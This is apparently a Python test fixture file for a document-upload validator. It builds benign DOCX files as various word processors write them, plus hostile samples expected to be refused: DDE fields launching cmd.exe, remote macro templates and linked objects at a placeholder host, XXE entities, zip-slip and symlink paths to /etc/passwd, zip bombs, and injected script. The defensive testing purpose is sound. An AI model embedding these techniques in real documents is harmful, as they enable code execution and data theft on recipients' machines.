# ruff: noqa: E501 (lines of tables, which hold the files themselves)
"""DOCX files: as honest programs write them, and those that act or hide something."""

import io
from collections.abc import Callable
from typing import Final

import docx as python_docx

from files.enums import MediaKind, Refusal
from tests.factories import documents as make

ACTIVE: Final = Refusal.ACTIVE_CONTENT
DAMAGED: Final = Refusal.DAMAGED
DOCX: Final = MediaKind.DOCX
OFFICE: Final = "application/vnd.openxmlformats-officedocument"
W: Final = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R: Final = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
A: Final = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
V: Final = 'xmlns:v="urn:schemas-microsoft-com:vml"'
MZ: Final = b"MZ\x90\0" + bytes(200)
PNG: Final = b"\x89PNG\r\n\x1a\n" + bytes(50)

Parts = dict[str, bytes | None]


def declared(*overrides: tuple[str, str], defaults: tuple[tuple[str, str], ...] = ()) -> bytes:
    """The list of types with more parts in it."""
    more = "".join(f'<Default Extension="{suffix}" ContentType="{kind}"/>' for suffix, kind in defaults)
    more += "".join(f'<Override PartName="{part}" ContentType="{kind}"/>' for part, kind in overrides)
    return make.docx_parts()["[Content_Types].xml"].replace(b"</Types>", more.encode() + b"</Types>")


def document(inside: str) -> bytes:
    """The main part with something before its last paragraph's end."""
    whole = make.docx_parts()["word/document.xml"].decode()
    whole = whole.replace("<w:document ", f"<w:document {R} {A} {V} ", 1)
    return whole.replace("<w:sectPr/>", f"{inside}<w:sectPr/>").encode()


def with_parts(parts: Parts) -> Callable[[], bytes]:
    """A DOCX with parts added, replaced, or left out (None)."""

    def build() -> bytes:
        changed: Parts = {**make.docx_parts(), **parts}
        return make.packed({name: content for name, content in changed.items() if content is not None})

    return build


def related(
    kind: str,
    target: str,
    mode: str = "External",
    *,
    of: str = make.DOCUMENT_RELATIONS,
    inside: str = "",
    **parts: bytes,
) -> Callable[[], bytes]:
    """A DOCX with one relation, and something in its document."""
    more: Parts = {"word/document.xml": document(inside)} if inside else {}
    return with_parts({of: make.relation(kind, target, mode), **more, **parts})


def runs(*pieces: str) -> str:
    """A paragraph of one field, its instruction cut into runs, which are XML where they begin with ``<``."""
    made = "".join(piece if piece[0] == "<" else f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{mark}"/></w:r>' for mark in ("begin", "end"))
    return f"<w:p>{begin}{made}{end}</w:p>"


def field(*pieces: str, part: str = "word/document.xml") -> Callable[[], bytes]:
    """A DOCX with a field in one of its parts."""
    if part == "word/document.xml":
        return with_parts({part: document(runs(*pieces))})
    return with_parts({part: f"<w:hdr {W}>{runs(*pieces)}</w:hdr>".encode()})


BLIP: Final = "<w:p><w:r><w:drawing><a:blip {}/></w:drawing></w:r></w:p>"
WEB_PICTURE: Final = "https://host.invalid/a.png"
CORE: Final = (
    b'<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
    b'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>\xc3\x84iti</dc:creator></cp:coreProperties>'
)


def of_python_docx() -> bytes:
    """As python-docx writes it, from the template of Word 2013: styles, theme, settings, thumbnail, custom XML."""
    made = python_docx.Document()
    made.add_heading("Työkokemus", 1)
    made.add_table(rows=2, cols=2).cell(0, 0).text = "2019\u20132026"
    made.add_paragraph("VBA, DDE, macros and JavaScript", style="List Bullet")
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def streamed(data: Callable[[], bytes]) -> Callable[[], bytes]:
    """As programs write that stream: sizes behind the entries, not before them, and no date."""

    def build() -> bytes:
        import zipfile

        class Unseekable(io.RawIOBase):
            def __init__(self) -> None:
                self.data = bytearray()

            def writable(self) -> bool:
                return True

            def write(self, piece: object) -> int:
                self.data += piece  # type: ignore[operator]
                return len(piece)  # type: ignore[arg-type]

        out = Unseekable()
        with zipfile.ZipFile(io.BytesIO(data())) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:  # type: ignore[call-overload]
            for entry in old.infolist():
                with new.open(entry.filename, "w", force_zip64=True) as stream:
                    stream.write(old.read(entry))
        return bytes(out.data)

    return build


def word_365() -> bytes:
    """As Word of today writes it: the whole crowd of parts, a template of the author's, people, comments, web settings."""
    parts = (
        ("/word/styles.xml", "styles"),
        ("/word/settings.xml", "settings"),
        ("/word/webSettings.xml", "webSettings"),
        ("/word/fontTable.xml", "fontTable"),
        ("/word/comments.xml", "comments"),
        ("/word/footnotes.xml", "footnotes"),
    )
    types = tuple((part, f"{OFFICE}.wordprocessingml.{kind}+xml") for part, kind in parts)
    files: Parts = {part.lstrip("/"): f"<w:{kind} {W}/>".encode() for part, kind in parts}
    files["[Content_Types].xml"] = declared(
        *types, defaults=(("jpeg", "image/jpeg"), ("odttf", f"{OFFICE}.obfuscatedFont"))
    )
    files |= {
        "word/theme/theme1.xml": f'<a:theme {A} name="Office"/>'.encode(),
        "word/media/image1.jpeg": b"\xff\xd8\xff\xe0" + bytes(90),
        "word/fonts/font1.odttf": bytes(range(256)),
        "customXml/item1.xml": b'<b:Sources xmlns:b="urn:x" SelectedStyle="\\APA.XSL"/>',
        "docProps/core.xml": CORE,
        "docMetadata/LabelInfo.xml": b'<clbl:labelList xmlns:clbl="urn:y"/>',
        make.SETTINGS_RELATIONS: make.relation(
            "attachedTemplate", "file:///C:\\Users\\Aino\\AppData\\CV%20template.dotx"
        ),
    }
    return with_parts(files)()


def trash() -> bytes:
    """As Word 2007 leaves it at times: an entry of rubbish that no part names."""
    return with_parts({"[trash]/0000.dat": bytes(500), "word/printerSettings1.bin": bytes(range(200))})()


def _default_type() -> bytes:
    """As small generators write it: one type for the suffix XML, and no list of parts."""
    types = make.docx_parts()["[Content_Types].xml"].decode()
    head = types.partition("<Default")[0]
    rels = "application/vnd.openxmlformats-package.relationships+xml"
    main = f"{OFFICE}.wordprocessingml.document.main+xml"
    made = f'<Default Extension="rels" ContentType="{rels}"/><Default Extension="xml" ContentType="{main}"/></Types>'
    return with_parts({"[Content_Types].xml": (head + made).encode()})()


HONEST: dict[str, tuple[MediaKind, Callable[[], bytes]]] = {
    name: (DOCX, build)
    for name, build in {
        "docx of python-docx and Word 2013": of_python_docx,
        "docx of Word 365": word_365,
        "docx of Word 2007, with rubbish": trash,
        "docx of Word, strict": make.strict_docx,
        "docx of Google Docs": streamed(of_python_docx),
        "docx of a small generator": _default_type,
        "docx of Pages": with_parts({"docProps/core.xml": CORE, "word/media/a.tiff": b"MM\0*" + bytes(40)}),
        "docx of LibreOffice": with_parts({"docProps/app.xml": b"<Properties><Template></Template></Properties>"}),
        "docx of OnlyOffice": with_parts({"word/theme/theme1.xml": f"<a:theme {A}/>".encode(), "word/people.xml": b""}),
        "docx of WPS": with_parts(
            {"docProps/custom.xml": b'<?xml version="1.0"?><Properties><KSOProductBuildVer/></Properties>'}
        ),
        "docx with nothing but its document": lambda: make.docx(""),
        "docx with every entry stored": lambda: make.raw_zip(
            [make.RawEntry(name, content, is_stored=True) for name, content in make.docx_parts().items()]
        ),
        "docx with the list of types last": lambda: make.packed(dict(reversed(make.docx_parts().items()))),
        "docx with a folder of its own": with_parts({"word/": b"", "word/media/": b""}),
        "docx with a name in Finnish": with_parts({"word/media/työ 😀.png": PNG}),
        "docx with a comment of the archive": lambda: make.docx()[:-2] + b"\x05\0hello",
        "docx with zeros behind": lambda: make.docx() + bytes(4096),
        "docx with a picture pasted from the web": related(
            "image", WEB_PICTURE, inside=BLIP.format('r:embed="rId9" r:link="rId1"')
        ),
        "docx with a picture pasted from the web, VML": related(
            "image",
            WEB_PICTURE,
            inside='<w:p><w:r><w:pict><v:imagedata r:id="rId9" r:href="rId1"/></w:pict></w:r></w:p>',
        ),
        "docx with a field of a pasted picture": field(
            ' INCLUDEPICTURE "https://host.invalid/a.png" \\* MERGEFORMATINET '
        ),
        "docx with a picture on the author's disk": related(
            "image", "file:///C:\\a.png", inside=BLIP.format('r:link="rId1"')
        ),
        "docx with places to click": field(" MACROBUTTON NoMacro [Type your name] "),
        "docx with contents": field(' TOC \\o "1-3" \\h \\z \\u '),
        "docx with a link by field": field(' HYPERLINK "https://example.invalid/?a=1" '),
        "docx with a local sheet": field(' LINK Excel.Sheet.8 "C:\\\\a.xls" "R1C1" \\a \\p '),
        "docx with a field in a field": field(" IF ", runs(" MERGEFIELD dde "), ' = "a" "b" '),
        "docx that talks of DDE": with_parts(
            {"word/document.xml": document("<w:p><w:r><w:t>DDEAUTO cmd</w:t></w:r></w:p>")}
        ),
        "docx with DDE in a field's result": field(
            " PAGE ", '<w:r><w:fldChar w:fldCharType="separate"/></w:r>', "<w:r><w:t>DDE</w:t></w:r>"
        ),
        "docx with a chart": with_parts(
            {
                "word/charts/chart1.xml": b"<c:chart xmlns:c='urn:c'/>",
                "word/charts/_rels/chart1.xml.rels": make.relation("package", "../embeddings/a.xlsx", "Internal"),
                "word/embeddings/a.xlsx": make.xlsx(),
            }
        ),
        "docx with a type for objects and no object": with_parts(
            {"[Content_Types].xml": declared(defaults=(("bin", f"{OFFICE}.oleObject"),))}
        ),
        "docx with a mail merge on the author's disk": related(
            "mailMergeSource", "file:///C:\\list.xlsx", of=make.SETTINGS_RELATIONS
        ),
        "docx with a film of the web": related("video", "https://host.invalid/film"),
        "docx with a template in the same folder": lambda: make.remote_template_docx("CV%20template.dotx"),
        "docx with a protected form": with_parts(
            {
                "word/settings.xml": f'<w:settings {W}><w:documentProtection w:edit="forms" w:enforcement="1"/></w:settings>'.encode()
            }
        ),
        "docx with a drawing": with_parts(
            {
                "word/media/a.svg": b'<svg xmlns="http://www.w3.org/2000/svg"/>',
                "word/media/b.emf": b"\1\0\0\0" + bytes(99),
            }
        ),
    }.items()
}

VBA: Final = make.OLE2 + bytes(504)

HOSTILE: dict[str, tuple[Refusal, Callable[[], bytes]]] = {
    # Macros.
    "docx with macros in an odd place": (ACTIVE, with_parts({"custom/x/VBAproject.BIN": VBA})),
    "docx with macros, by type": (
        ACTIVE,
        with_parts(
            {
                "[Content_Types].xml": declared(("/word/a.dat", "application/vnd.ms-office.vbaProject")),
                "word/a.dat": VBA,
            }
        ),
    ),
    "docx with macros, by relation": (ACTIVE, related("vbaProject", "a.dat", "Internal")),
    "docx with macros, by Microsoft's relation": (
        ACTIVE,
        with_parts(
            {
                make.DOCUMENT_RELATIONS: make.relation("x", "a.dat", "Internal").replace(
                    make.RELATIONS.encode() + b"/x",
                    b"http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                )
            }
        ),
    ),
    "docx with macros, by content": (ACTIVE, with_parts({"word/media/image1.png": VBA})),
    "docx with macros, by an escaped name": (ACTIVE, with_parts({"word/vbaProject%2Ebin": b"x"})),
    "docm": (ACTIVE, make.macro_docx),
    "dotm": (ACTIVE, lambda: make.other_package("application/vnd.ms-word.template.macroEnabledTemplate.main+xml")),
    # Objects.
    "docx with an object": (ACTIVE, related("oleObject", "embeddings/oleObject1.bin", "Internal")),
    "docx with an object that nobody names": (
        ACTIVE,
        with_parts({"word/embeddings/oleObject1.bin": make.OLE2 + bytes(99)}),
    ),
    "docx with an object, by type": (
        ACTIVE,
        with_parts(
            {"[Content_Types].xml": declared(defaults=(("bin", f"{OFFICE}.oleObject"),)), "word/embeddings/a.bin": b"x"}
        ),
    ),
    "docx with an object, linked": (ACTIVE, related("oleObject", "http://host.invalid/a.hta")),
    "docx with an ActiveX control": (ACTIVE, related("control", "activeX/activeX1.xml", "Internal")),
    "docx with an ActiveX control, by type": (
        ACTIVE,
        with_parts(
            {
                "[Content_Types].xml": declared(
                    ("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
                ),
                "word/activeX/activeX1.xml": b"<ax:ocx xmlns:ax='urn:a'/>",
            }
        ),
    ),
    "docx with a program": (ACTIVE, with_parts({"word/media/image1.png": MZ})),
    "docx with a document with macros": (ACTIVE, with_parts({"word/embeddings/a.docx": make.hidden_macro_docx()})),
    "docx with a pdf with a script": (ACTIVE, with_parts({"word/embeddings/a.pdf": make.javascript_pdf()})),
    "docx with a page of HTML": (
        ACTIVE,
        related("aFChunk", "a.html", "Internal", **{"word/a.html": b"<script>1</script>"}),
    ),
    "docx with a page of MHT": (ACTIVE, related("aFChunk", "/word/a.mht", "Internal")),
    "docx with a page of HTML, strict": (
        ACTIVE,
        with_parts(
            {
                make.DOCUMENT_RELATIONS: make.relation("aFChunk", "a.html", "Internal").replace(
                    make.RELATIONS.encode(), b"http://purl.oclc.org/ooxml/officeDocument/relationships"
                )
            }
        ),
    ),
    # Fields.
    "docx with DDE": (ACTIVE, field(' DDEAUTO "cmd.exe" "/c calc" ')),
    "docx with DDE in lower case": (ACTIVE, field(" ddeauto cmd calc ")),
    "docx with DDE letter by letter": (ACTIVE, field("D", "D", "E", "A", "U", "T", "O", " calc")),
    "docx with DDE in plain text": (ACTIVE, field("<w:r><w:t>DDE</w:t></w:r>", "<w:r><w:t>AUTO calc</w:t></w:r>")),
    "docx with DDE in a field": (ACTIVE, field(" IF ", runs(' DDE "cmd" '), ' = "a" "b" ')),
    "docx with DDE behind a nested field": (ACTIVE, field(" DDEAUTO ", runs(" QUOTE 99 109 100 "), " ")),
    "docx with DDE in a header": (ACTIVE, field(" DDE cmd ", part="word/header1.xml")),
    "docx with DDE in a note": (ACTIVE, field(" DDE cmd ", part="word/footnotes.xml")),
    "docx with DDE in a glossary": (ACTIVE, field(" DDE cmd ", part="word/glossary/document.xml")),
    "docx with DDE by simple field": (
        ACTIVE,
        with_parts({"word/document.xml": document('<w:fldSimple w:instr="&#10;DDEAUTO cmd"/>')}),
    ),
    "docx with DDE that was deleted": (
        ACTIVE,
        with_parts(
            {
                "word/document.xml": document(
                    '<w:del w:id="1"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:delInstrText>DDE x</w:delInstrText></w:r></w:del>'
                )
            }
        ),
    ),
    "docx with a text on the web": (ACTIVE, field(' INCLUDETEXT "http://host.invalid/a.docx" ')),
    "docx with a picture by field, on a share": (ACTIVE, field(' INCLUDEPICTURE "\\\\\\\\host.invalid\\\\a.png" \\d ')),
    "docx with a link to a sheet on a share": (
        ACTIVE,
        field(' LINK Excel.Sheet.8 "\\\\\\\\host.invalid\\\\a.xls" "R1C1" '),
    ),
    # Parts that are fetched.
    **{
        f"docx with a template, {name}": (ACTIVE, lambda target=target: make.remote_template_docx(target))  # type: ignore[misc]
        for name, target in (
            ("http", "http://host.invalid/a.dotm"),
            ("https", "https://host.invalid/a.dotx"),
            ("share", "\\\\host.invalid\\a\\b.dotm"),
            ("share by slashes", "//host.invalid/a.dotm"),
            ("share by file", "file://host.invalid/a.dotm"),
            ("share, escaped", "%5c%5chost.invalid%5ca.dotm"),
            ("share by five slashes", "file://///host.invalid/a.dotm"),
            ("ftp", "ftp://host.invalid/a.dotm"),
            ("webdav", "\\\\host.invalid@SSL\\DavWWWRoot\\a.dotm"),
            ("mhtml", "mhtml:http://host.invalid/a!x-usc:b"),
            ("http with a tab", "ht&#9;tp://host.invalid/a.dotm"),
        )
    },
    "docx with a template, not called external": (
        ACTIVE,
        related("attachedTemplate", "http://host.invalid/a.dotm", "Internal", of=make.SETTINGS_RELATIONS),
    ),
    "docx with a template, strict": (
        ACTIVE,
        with_parts(
            {
                make.SETTINGS_RELATIONS: make.relation("attachedTemplate", "http://host.invalid/a").replace(
                    make.RELATIONS.encode(), b"http://purl.oclc.org/ooxml/officeDocument/relationships"
                )
            }
        ),
    ),
    "docx with a picture that is fetched": (ACTIVE, related("image", WEB_PICTURE, inside=BLIP.format('r:link="rId1"'))),
    "docx with a picture that is fetched, VML": (
        ACTIVE,
        related("image", WEB_PICTURE, inside='<w:p><w:r><w:pict><v:imagedata r:href="rId1"/></w:pict></w:r></w:p>'),
    ),
    "docx with a picture that is fetched, in a header": (
        ACTIVE,
        with_parts(
            {
                "word/header1.xml": f"<w:hdr {W} {R} {A}>{BLIP.format(chr(114) + ':link=' + chr(34) + 'rId1' + chr(34))}</w:hdr>".encode(),
                "word/_rels/header1.xml.rels": make.relation("image", WEB_PICTURE),
            }
        ),
    ),
    "docx with a picture on a share": (ACTIVE, related("image", "\\\\host.invalid\\a.png")),
    "docx with a frame": (ACTIVE, related("frame", "http://host.invalid/", of="word/_rels/webSettings.xml.rels")),
    "docx with a document in it from the web": (ACTIVE, related("subDocument", "http://host.invalid/a.docx")),
    "docx with styles from the web": (ACTIVE, related("styles", "http://host.invalid/styles.xml")),
    "docx with a mail merge on the web": (
        ACTIVE,
        related("mailMergeSource", "http://host.invalid/", of=make.SETTINGS_RELATIONS),
    ),
    "docx with a font of the web": (
        ACTIVE,
        related("font", "http://host.invalid/a", of="word/_rels/fontTable.xml.rels"),
    ),
    "docx whose package fetches": (
        ACTIVE,
        with_parts(
            {
                "_rels/.rels": make.docx_parts()["_rels/.rels"].replace(
                    b"</Relationships>",
                    b'<Relationship Id="a" Type="x/metadata/thumbnail" Target="\\\\host.invalid\\a.png" TargetMode="External"/></Relationships>',
                )
            }
        ),
    ),
    "docx with a link that runs": (ACTIVE, related("hyperlink", "search-ms:query=a&amp;crumb=location:host.invalid")),
    # Names, doubles, sizes.
    "docx with two documents by case": (DAMAGED, with_parts({"Word/Document.xml": b"<a/>"})),
    "docx with one name twice": (DAMAGED, lambda: make.docx_with_entry(make.RawEntry("word/document.xml", b"<a/>"))),
    "docx with a name with NUL": (DAMAGED, lambda: make.docx_with_entry(make.RawEntry("a.xml\0.png", b"x"))),
    "docx with a name with line ends": (DAMAGED, lambda: make.docx_with_entry(make.RawEntry("a\r\nb.png", b"x"))),
    "docx that climbs in its middle": (DAMAGED, lambda: make.zip_slip_docx("word/media/../../../evil")),
    "docx with a share for a name": (DAMAGED, lambda: make.zip_slip_docx("\\\\host\\evil")),
    "docx with a symlink upwards": (DAMAGED, lambda: make.symlink_docx("../../../etc/passwd")),
    "docx behind another archive": (DAMAGED, lambda: make.jar() + make.docx()),
    "docx before a program": (DAMAGED, lambda: make.docx() + MZ[:2] + b"\x90" * 200),
    "docx with a page in its comment": (DAMAGED, lambda: make.docx()[:-2] + b"\x19\0<script>alert(1)</script>"),
    "docx with an archiver's password": (Refusal.ENCRYPTED, make.zip_encrypted_docx),
    "docx with strong encryption": (
        Refusal.ENCRYPTED,
        lambda: make.docx_with_entry(make.RawEntry("a", b"x", flags=0x41)),
    ),
    "docx in an encrypted package": (Refusal.ENCRYPTED, make.encrypted_docx),
    "docx with a bomb in it": (Refusal.UNPACKS_TOO_BIG, with_parts({"word/embeddings/a.docx": make.zip_bomb_docx()})),
    "docx with many bombs": (
        Refusal.UNPACKS_TOO_BIG,
        lambda: make.raw_zip(
            [*make.raw_entries(make.docx_parts()), *(make.zeros(20, f"word/media/{n}.bmp") for n in range(8))]
        ),
    ),
    "docx of many entries": (Refusal.UNPACKS_TOO_BIG, make.many_entries_docx),
    # XML.
    "docx with a document type": (DAMAGED, with_parts({"word/styles.xml": b"<!DOCTYPE a><a/>"})),
    "docx with a document type of OpenOffice": (
        DAMAGED,
        with_parts({"word/styles.xml": b'<!DOCTYPE a PUBLIC "-//OpenOffice.org//DTD a" "a"><a/>'}),
    ),
    "docx with a document type in its relations": (
        DAMAGED,
        with_parts({make.DOCUMENT_RELATIONS: b'<!DOCTYPE a [<!ENTITY % e SYSTEM "http://host.invalid/">%e;]><a/>'}),
    ),
    "docx with entities in its custom parts": (
        DAMAGED,
        with_parts({"customXml/item1.xml": b'<!DOCTYPE a [<!ENTITY a "b">]><a>&a;</a>'}),
    ),
    "docx with entities in utf-16": (
        DAMAGED,
        with_parts(
            {
                "docProps/app.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY a "b">]><a/>'.encode(
                    "utf-16"
                )
            }
        ),
    ),
    # Other kinds under that name.
    "dotx": (Refusal.WRONG_TYPE, lambda: make.other_package(f"{OFFICE}.wordprocessingml.template.main+xml")),
    "xlsx": (Refusal.WRONG_TYPE, make.xlsx),
    "pptx": (Refusal.WRONG_TYPE, lambda: make.other_package(f"{OFFICE}.presentationml.presentation.main+xml")),
    "vsdx": (Refusal.WRONG_TYPE, lambda: make.other_package("application/vnd.ms-visio.drawing.main+xml")),
    "docx with a book for a document": (
        DAMAGED,
        with_parts({"word/document.xml": b"<html xmlns='http://www.w3.org/1999/xhtml'/>"}),
    ),
}
